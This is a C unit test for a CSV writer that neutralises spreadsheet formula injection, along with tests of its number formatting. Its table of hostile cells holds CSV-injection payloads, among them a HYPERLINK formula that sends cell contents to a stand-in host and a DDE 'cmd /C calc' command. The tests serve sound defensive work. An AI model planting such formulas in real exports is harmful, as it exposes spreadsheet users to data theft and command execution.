/* test-csv-writer.c — the formula-safe CSV writer (render/csv-writer.h).
 *
 * A table of hostile cell values (OWASP "CSV Injection" and the variants a trimmed import
 * lets through) must come out quoted with a leading ', every one; ordinary text and every
 * number must come out unaltered; raw mode writes text as given. The written CSV is read
 * back with the project's own reader, so quoting is checked as a reader sees it.
 */
#include "input/csvsource.h"
#include "base/format.h"
#include "render/csv-writer.h"

#include <math.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static char *
write_cells(const char *const *cells, gsize n, gboolean number, gboolean raw)
{
  char *buf = NULL;
  size_t size = 0;
  FILE *f = open_memstream(&buf, &size);
  g_assert_nonnull(f);
  OmCsvWriter *w = om_csv_writer_new(f, ';', FALSE);
  om_csv_writer_set_raw(w, raw);
  for (gsize i = 0; i < n; i++) {
    if (number)
      om_csv_writer_number(w, cells[i]);
    else
      om_csv_writer_field(w, cells[i]);
    om_csv_writer_end_row(w);
  }
  GError *error = NULL;
  g_assert_true(om_csv_writer_finish(w, &error));
  g_assert_no_error(error);
  om_csv_writer_free(w);
  g_assert_cmpint(fclose(f), ==, 0);
  return buf;
}

/* One text cell in, the exact bytes of its CSV row out. */
typedef struct {
  const char *cell;
  const char *csv;
} Case;

static const Case hostile[] = {
  { "=1+1", "\"'=1+1\"\r\n" },
  { "=HYPERLINK(\"http://x.example/?\"&A1;\"klik\")",
    "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"klik\"\")\"\r\n" },
  { "+31 6 1234", "\"'+31 6 1234\"\r\n" },
  { "-2+3", "\"'-2+3\"\r\n" },
  { "-5", "\"'-5\"\r\n" }, /* as TEXT: a respondent id, not a number */
  { "@SUM(A1:A9)", "\"'@SUM(A1:A9)\"\r\n" },
  { "\t=5+5", "\"'\t=5+5\"\r\n" },
  { "\r=5+5", "\"'\r=5+5\"\r\n" },
  { "\tplain", "\"'\tplain\"\r\n" }, /* a leading TAB alone is on OWASP's list */
  { "\rplain", "\"'\rplain\"\r\n" },
  { "  =cmd|' /C calc'!A0", "\"'  =cmd|' /C calc'!A0\"\r\n" },
  { "\n@x", "\"'\n@x\"\r\n" },
  { " \t +1", "\"' \t +1\"\r\n" },
  { "=", "\"'=\"\r\n" },
};

static const Case harmless[] = {
  { "Gemeente Lindeveen", "Gemeente Lindeveen\r\n" },
  { "a=b", "a=b\r\n" },
  { "R2013-000001", "R2013-000001\r\n" },
  { "'quoted", "'quoted\r\n" },
  { "café; \"x\"", "\"café; \"\"x\"\"\"\r\n" },
  { " lead", "\" lead\"\r\n" },
  { "", "\"\"\r\n" },
};

static void
check_cases(const Case *cases, gsize n, gboolean raw)
{
  for (gsize i = 0; i < n; i++) {
    char *got = write_cells(&cases[i].cell, 1, FALSE, raw);
    g_assert_cmpstr(got, ==, cases[i].csv);
    free(got);
  }
}

static void
test_hostile_text(void)
{
  check_cases(hostile, G_N_ELEMENTS(hostile), FALSE);
  for (gsize i = 0; i < G_N_ELEMENTS(hostile); i++)
    g_assert_true(om_csv_is_formula_like(hostile[i].cell));
}

static void
test_harmless_text(void)
{
  check_cases(harmless, G_N_ELEMENTS(harmless), FALSE);
  for (gsize i = 0; i < G_N_ELEMENTS(harmless); i++)
    g_assert_false(om_csv_is_formula_like(harmless[i].cell));
  g_assert_false(om_csv_is_formula_like(NULL));
}

/* Numbers are never altered: a negative change stays -1,3. */
static void
test_numbers(void)
{
  static const Case numbers[] = {
    { "-1,3", "-1,3\r\n" },     { "-0.0015", "-0.0015\r\n" },
    { "0,8485", "0,8485\r\n" }, { "2013", "2013\r\n" },
    { "-12", "-12\r\n" },       { "9223372036854775807", "9223372036854775807\r\n" },
    { "0", "0\r\n" },
  };
  for (gsize i = 0; i < G_N_ELEMENTS(numbers); i++) {
    char *got = write_cells(&numbers[i].cell, 1, TRUE, FALSE);
    g_assert_cmpstr(got, ==, numbers[i].csv);
    free(got);
  }
  /* Not numbers: neutralised as text, whatever the caller claimed. */
  static const Case not_numbers[] = {
    { "-1+1", "\"'-1+1\"\r\n" }, { "=1", "\"'=1\"\r\n" },   { "-", "\"'-\"\r\n" },
    { "-inf", "\"'-inf\"\r\n" }, { "+5", "\"'+5\"\r\n" },   { "1,2,3", "1,2,3\r\n" },
    { "-1,", "\"'-1,\"\r\n" },   { "--1", "\"'--1\"\r\n" }, { "1e5", "1e5\r\n" },
  };
  for (gsize i = 0; i < G_N_ELEMENTS(not_numbers); i++) {
    char *got = write_cells(&not_numbers[i].cell, 1, TRUE, FALSE);
    g_assert_cmpstr(got, ==, not_numbers[i].csv);
    free(got);
  }
  const char *empty[] = { NULL };
  char *got = write_cells(empty, 1, TRUE, FALSE);
  g_assert_cmpstr(got, ==, "\"\"\r\n");
  free(got);
}

/* Raw mode: the text as stored, quoted only where CSV needs it. */
static void
test_raw(void)
{
  static const Case raw[] = {
    { "=1+1", "=1+1\r\n" },
    { "-5", "-5\r\n" },
    { "\t=5+5", "\"\t=5+5\"\r\n" },
    { "@x", "@x\r\n" },
  };
  check_cases(raw, G_N_ELEMENTS(raw), TRUE);
}

static gboolean
collect(const OmCsvRow *row, gpointer data, GError **error)
{
  (void)error;
  g_assert_cmpuint(row->n_fields, ==, 1);
  g_ptr_array_add(data, g_strdup(row->fields[0]));
  return TRUE;
}

/* What a reader (ours) gets back: the neutralised text with its ', in one field. */
static void
test_read_back(void)
{
  const char *cells[G_N_ELEMENTS(hostile)];
  for (gsize i = 0; i < G_N_ELEMENTS(hostile); i++)
    cells[i] = hostile[i].cell;
  char *buf = write_cells(cells, G_N_ELEMENTS(hostile), FALSE, FALSE);
  GPtrArray *got = g_ptr_array_new_with_free_func(g_free);
  OmCsvOptions opts = { .delimiter = ';' };
  GError *error = NULL;
  g_assert_true(om_csv_read_data("t.csv", buf, strlen(buf), &opts, collect, got, NULL, &error));
  g_assert_no_error(error);
  g_assert_cmpuint(got->len, ==, G_N_ELEMENTS(hostile));
  for (gsize i = 0; i < got->len; i++) {
    char *want = g_strconcat("'", hostile[i].cell, NULL);
    g_assert_cmpstr(g_ptr_array_index(got, i), ==, want);
    g_free(want);
  }
  g_ptr_array_unref(got);
  free(buf);
}

/* Numbers written without printf must be byte for byte what om_format_decimal gives:
 * ties of the binary value (0.125 to 2 decimals is 0,12), values a hair beside a tie,
 * products just under and over 2^52 (the fast path's limit), signs of values that show
 * as zero, and random values of every magnitude, in both languages. */
static char *
decimal_row(double v, int d, gboolean comma, char delimiter, gboolean via_text)
{
  char *buf = NULL;
  size_t size = 0;
  FILE *f = open_memstream(&buf, &size);
  OmCsvWriter *w = om_csv_writer_new(f, delimiter, FALSE);
  if (via_text) {
    char *s = om_format_decimal(v, d, comma ? OM_LANG_NL : OM_LANG_EN);
    om_csv_writer_number(w, s);
    g_free(s);
  } else {
    om_csv_writer_decimal(w, v, d, comma);
  }
  om_csv_writer_field(w, "x");
  om_csv_writer_end_row(w);
  g_assert_true(om_csv_writer_finish(w, NULL));
  om_csv_writer_free(w);
  g_assert_cmpint(fclose(f), ==, 0);
  return buf;
}

static void
check_decimal(double v, int d)
{
  /* the Dutch and English dialects, and a decimal comma in a ',' file (quoted) */
  static const struct {
    gboolean comma;
    char delimiter;
  } dialects[] = { { TRUE, ';' }, { FALSE, ',' }, { TRUE, ',' }, { FALSE, '\t' } };
  for (gsize k = 0; k < G_N_ELEMENTS(dialects); k++) {
    gboolean comma = dialects[k].comma;
    char delimiter = dialects[k].delimiter;
    char *fast = decimal_row(v, d, comma, delimiter, FALSE);
    char *slow = decimal_row(v, d, comma, delimiter, TRUE);
    if (strcmp(fast, slow) != 0)
      g_error("%.17g with %d decimals: %s instead of %s", v, d, fast, slow);
    free(fast);
    free(slow);
  }
}

static void
test_decimal(void)
{
  static const double fixed[] = { 0,
                                  -0.0,
                                  0.125,
                                  0.375,
                                  2.5,
                                  3.5,
                                  -2.5,
                                  1.0005,
                                  0.0005,
                                  -0.0004,
                                  -0.0005,
                                  0.8745,
                                  99.995,
                                  1e-300,
                                  -1e-300,
                                  4503599627370495.0,
                                  4503599627370496.0,
                                  4503599627370497.0,
                                  450359962737.0495,
                                  1e300,
                                  NAN,
                                  INFINITY,
                                  -INFINITY };
  for (gsize i = 0; i < G_N_ELEMENTS(fixed); i++)
    for (int d = -1; d <= 11; d++)
      check_decimal(fixed[i], d);
  GRand *r = g_rand_new_with_seed(9);
  for (int i = 0; i < 40000; i++) {
    int d = g_rand_int_range(r, 0, 10);
    double v;
    switch (i % 4) {
    case 0: /* a share, the common case */
      v = g_rand_double(r);
      break;
    case 1: /* any magnitude, either sign */
      v = ldexp(g_rand_double_range(r, -1, 1), g_rand_int_range(r, -40, 60));
      break;
    case 2: /* a decimal tie k + 1/2 in the last place, and its neighbours */
      v = ((double)g_rand_int_range(r, -100000, 100000) + 0.5) / pow(10, d);
      v = i % 8 == 2 ? v : nextafter(v, i % 16 == 6 ? INFINITY : -INFINITY);
      break;
    default: /* a count of answers over another */
      v = (double)g_rand_int_range(r, 0, 5000) / (double)g_rand_int_range(r, 1, 5000);
    }
    check_decimal(v, d);
  }
  g_rand_free(r);
}

/* Counts as printf writes them, the extremes too; a row left unended is still written. */
static void
test_int(void)
{
  static const gint64 values[] = { 0, 7, -7, 10, 123456789, G_MAXINT64, G_MININT64 };
  char *buf = NULL;
  size_t size = 0;
  FILE *f = open_memstream(&buf, &size);
  OmCsvWriter *w = om_csv_writer_new(f, ';', FALSE);
  GString *expected = g_string_new(NULL);
  for (gsize i = 0; i < G_N_ELEMENTS(values); i++) {
    om_csv_writer_int(w, values[i]);
    g_string_append_printf(expected, "%s%" G_GINT64_FORMAT, i ? ";" : "", values[i]);
  }
  om_csv_writer_end_row(w);
  g_string_append(expected, "\r\n");
  om_csv_writer_int(w, 5);
  g_string_append(expected, "5");
  g_assert_true(om_csv_writer_finish(w, NULL));
  om_csv_writer_free(w);
  g_assert_cmpint(fclose(f), ==, 0);
  g_assert_cmpstr(buf, ==, expected->str);
  g_string_free(expected, TRUE);
  free(buf);
}

int
main(int argc, char **argv)
{
  g_test_init(&argc, &argv, NULL);
  g_test_add_func("/csv-writer/hostile-text", test_hostile_text);
  g_test_add_func("/csv-writer/harmless-text", test_harmless_text);
  g_test_add_func("/csv-writer/numbers", test_numbers);
  g_test_add_func("/csv-writer/raw", test_raw);
  g_test_add_func("/csv-writer/read-back", test_read_back);
  g_test_add_func("/csv-writer/decimal", test_decimal);
  g_test_add_func("/csv-writer/int", test_int);
  return g_test_run();
}
